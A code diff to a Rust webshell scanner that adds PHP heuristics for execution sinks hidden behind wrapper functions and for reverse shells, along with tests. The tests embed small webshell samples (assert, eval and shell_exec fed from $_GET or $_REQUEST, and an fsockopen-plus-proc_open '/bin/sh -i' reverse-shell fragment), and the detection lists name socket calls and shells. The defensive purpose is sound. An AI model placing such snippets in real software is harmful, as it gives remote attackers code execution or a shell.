@@ -132,10 +132,22 @@ pub fn scan_script_until(
     let late = || deadline.is_some_and(|d| std::time::Instant::now() >= d);
     let text = String::from_utf8_lossy(data);
     let lower = text.to_ascii_lowercase();
-    drop(text);
     let mut hits = Vec::new();
     let finished = match kind {
-        ScriptKind::Php => php(&lower, &mut hits, &late),
+        ScriptKind::Php => {
+            let done = php(&lower, &mut hits, &late);
+            // Folding needs the original case: base64 is case-sensitive. It finds what the
+            // simpler assembled-name check finds too; one explanation is enough.
+            if done
+                && !late()
+                && !hits
+                    .iter()
+                    .any(|h| h.check == "scan.heuristic.assembled_name")
+            {
+                crate::php_fold::scan(&text, &lower, &mut hits, &late);
+            }
+            done
+        }
         ScriptKind::Jsp => {
             jsp(&lower, &mut hits);
             true
@@ -145,6 +157,7 @@ pub fn scan_script_until(
             true
         }
     };
+    drop(text);
     if !finished || late() {
         return (hits, true);
     }
@@ -391,6 +404,8 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
     }
     crate::php_tricks::scan(t, hits);
     capabilities(t, hits);
+    reverse_shell(t, hits);
+    wrapped_sink(t, hits);
     if let Some((offset, name)) = assembled_name(t) {
         hits.push(hit(
             "scan.heuristic.assembled_name",
@@ -403,6 +418,114 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
         ));
     }
     true
+}
+
+/// `function run($c) { @assert($c); } run($_POST['x']);`: a function of the file's own that
+/// hands its parameter straight to a sink, called with request input. Shells wrap the sink so
+/// that no statement holds both the input and `assert(`.
+fn wrapped_sink(t: &str, hits: &mut Vec<Hit>) {
+    if !PHP_INPUT.iter().any(|i| t.contains(i)) {
+        return;
+    }
+    let ident = |c: char| c.is_ascii_alphanumeric() || c == '_';
+    let mut wrappers: Vec<(&str, &str)> = Vec::new();
+    for (p, _) in t.match_indices("function ").take(5000) {
+        let rest = &t[p + "function ".len()..];
+        let name = &rest[..rest.find(|c: char| !ident(c)).unwrap_or(rest.len())];
+        let after = rest[name.len()..].trim_start();
+        let (Some(params), false) = (after.strip_prefix('('), name.is_empty()) else {
+            continue;
+        };
+        let Some(close) = params.find(')') else {
+            continue;
+        };
+        let names: Vec<&str> = params[..close]
+            .split(',')
+            .filter_map(|p| {
+                let v = p
+                    .split(['=', ' '])
+                    .find(|w| w.trim_start_matches('&').starts_with('$'))?;
+                Some(v.trim_start_matches('&')).filter(|v| v.len() > 1)
+            })
+            .collect();
+        // The body, near enough: up to the next function or 2 KiB.
+        let body = &params[close..];
+        let body = &body[..body.floor_char_boundary(2048)];
+        let body = body[1..].find("function ").map_or(body, |e| &body[..e + 1]);
+        let sink = PHP_EXEC.iter().find(|sink| {
+            body.match_indices(*sink).any(|(at, _)| {
+                contains_call(&body[at..], sink)
+                    && !body[..at].ends_with(|c: char| ident(c) || c == '>' || c == '$')
+                    && names.iter().any(|v| {
+                        let arg = body[at + sink.len()..].trim_start().trim_start_matches('@');
+                        arg.strip_prefix(v).is_some_and(|r| !r.starts_with(ident))
+                    })
+            })
+        });
+        if let Some(sink) = sink
+            && wrappers.len() < 64
+        {
+            wrappers.push((name, sink));
+        }
+    }
+    for (name, sink) in wrappers {
+        for (at, _) in t.match_indices(name) {
+            let before = &t[..at];
+            if before.ends_with(|c: char| ident(c) || c == '>' || c == '$' || c == ':')
+                || before.trim_end().ends_with("function")
+            {
+                continue;
+            }
+            let call = t[at + name.len()..].trim_start();
+            if !call.starts_with('(') {
+                continue;
+            }
+            let statement = &call[..call
+                .find(';')
+                .unwrap_or(call.len())
+                .min(call.floor_char_boundary(400))];
+            if let Some(input) = PHP_INPUT.iter().find(|i| statement.contains(*i)) {
+                hits.push(hit(
+                    "scan.heuristic.wrapped_sink",
+                    Severity::Critical,
+                    "Request input passed to code execution through a wrapper",
+                    format!("`{name}()` hands its parameter to `{sink}…)` and is called with request input (`{input}`): whoever sends the request chooses what runs"),
+                    at,
+                ));
+                return;
+            }
+        }
+    }
+}
+
+/// A PHP reverse or bind shell: a network socket, a process with pipes, and a shell to run
+/// in it. Mail and HTTP libraries open sockets and start `sendmail`, but do not name a shell.
+fn reverse_shell(t: &str, hits: &mut Vec<Hit>) {
+    const SOCKETS: &[&str] = &[
+        "fsockopen(",
+        "pfsockopen(",
+        "socket_create(",
+        "stream_socket_client(",
+        "stream_socket_server(",
+    ];
+    const PROCESSES: &[&str] = &["proc_open(", "popen("];
+    const SHELLS: &[&str] = &["/bin/sh", "/bin/bash", "cmd.exe", "sh -i"];
+    let Some(socket) = SOCKETS.iter().find(|c| contains_call(t, c)) else {
+        return;
+    };
+    let Some(process) = PROCESSES.iter().find(|c| contains_call(t, c)) else {
+        return;
+    };
+    let Some((at, shell)) = SHELLS.iter().find_map(|s| t.find(s).map(|p| (p, s))) else {
+        return;
+    };
+    hits.push(hit(
+        "scan.heuristic.php_reverse_shell",
+        Severity::High,
+        "Shell wired to a network socket",
+        format!("the script opens a socket (`{socket}…)`), starts a process with pipes (`{process}…)`) and names `{shell}`: a remote shell for whoever is at the other end"),
+        at,
+    ));
 }
 
 /// Full-featured webshells ("大马") read request input and bundle command execution, file
@@ -993,6 +1116,36 @@ mod tests {
     }
 
     #[test]
+    fn php_sinks_behind_a_wrapper_function() {
+        let shell = "<?php\nfunction abc($x){\n@assert($x);\n}\nabc($_REQUEST['c']);\n?>";
+        assert!(ids(ScriptKind::Php, shell).contains(&"scan.heuristic.wrapped_sink"));
+        let typed =
+            "<?php function run(string $cmd) { return shell_exec( $cmd ); }\necho run($_GET['c']);";
+        assert!(ids(ScriptKind::Php, typed).contains(&"scan.heuristic.wrapped_sink"));
+        // A wrapper called with a constant, and input given to a function without a sink.
+        // Multi-byte text around the cut points of the body and the call.
+        let wide = format!(
+            "<?php function w($c) {{ eval($c); /*{}*/ }} w($_GET['x'] . \"{}\");",
+            "é".repeat(1500),
+            "é".repeat(300)
+        );
+        assert!(ids(ScriptKind::Php, &wide).contains(&"scan.heuristic.wrapped_sink"));
+        let quiet = "<?php function up($c) { return system($c); } up('uptime'); function show($v) { echo htmlspecialchars($v); } show($_GET['q']);";
+        assert!(!ids(ScriptKind::Php, quiet).contains(&"scan.heuristic.wrapped_sink"));
+    }
+
+    #[test]
+    fn php_reverse_shell_and_mailers() {
+        let shell = r#"<?php $sock = fsockopen($ip, $port); $shell = 'uname -a; /bin/sh -i';
+$process = proc_open($shell, array(0 => array("pipe", "r"), 1 => array("pipe", "w")), $pipes);"#;
+        assert!(ids(ScriptKind::Php, shell).contains(&"scan.heuristic.php_reverse_shell"));
+        // A mailer opens an SMTP socket or pipes to sendmail, and names no shell.
+        let mailer =
+            r#"<?php $smtp = fsockopen($host, 25); $mail = popen("/usr/sbin/sendmail -t", "w");"#;
+        assert!(!ids(ScriptKind::Php, mailer).contains(&"scan.heuristic.php_reverse_shell"));
+    }
+
+    #[test]
     fn jsp_techniques_without_a_runtime_call() {
         let jshell = r#"<%=jdk.jshell.JShell.builder().build().eval(request.getParameter("c")).get(0).value()%>"#;
         assert!(ids(ScriptKind::Jsp, jshell).contains(&"scan.heuristic.jsp_script_engine"));
@@ -1201,6 +1354,11 @@ mod tests {
 
         #[test]
         fn never_panics_on_script_like_text(s in "(eval|\\$_GET\\[|'a'\\.|chr\\(1\\d\\d\\)\\.|\\\\x6[0-9a-f]|\\(|\\)|;|\"|`|base64_decode\\(|[a-z ]){0,80}") {
+            let _ = scan_script(ScriptKind::Php, s.as_bytes());
+        }
+
+        #[test]
+        fn never_panics_on_foldable_and_wrapped_text(s in "(\\$[ab] ?\\.?= ?|\\$[ab]\\[\\d+\\]|\\$\\{|function [ab] ?\\(\\$[ab]\\) ?\\{|[ab]\\(\\$_POST\\)|assert\\(\\$a|str_replace\\(|pack\\('H\\*', ?|gzinflate\\(|substr\\(|chr\\(9\\^1\\)|\\\\1[0-7][0-7]|\\\\x[0-9a-f]|'[a-z]{0,3}'|\"|\\.|,|\\)|\\}|;|/\\*|\\*/|-?[0-9]|é|[a-z ]){0,120}") {
             let _ = scan_script(ScriptKind::Php, s.as_bytes());
         }
     }
